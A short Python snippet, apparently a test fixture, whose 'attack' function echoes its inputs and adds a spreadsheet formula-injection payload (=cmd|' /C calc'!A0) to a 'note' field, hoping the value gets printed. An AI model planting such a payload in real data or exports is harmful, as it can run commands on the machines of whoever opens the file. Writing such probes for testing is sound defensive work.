"""Hands its inputs back inside the value, hoping that somebody prints it. Class B52."""


def attack(bait):
    return {"inputs": repr(sorted(bait)), "note": "=cmd|' /C calc'!A0"}
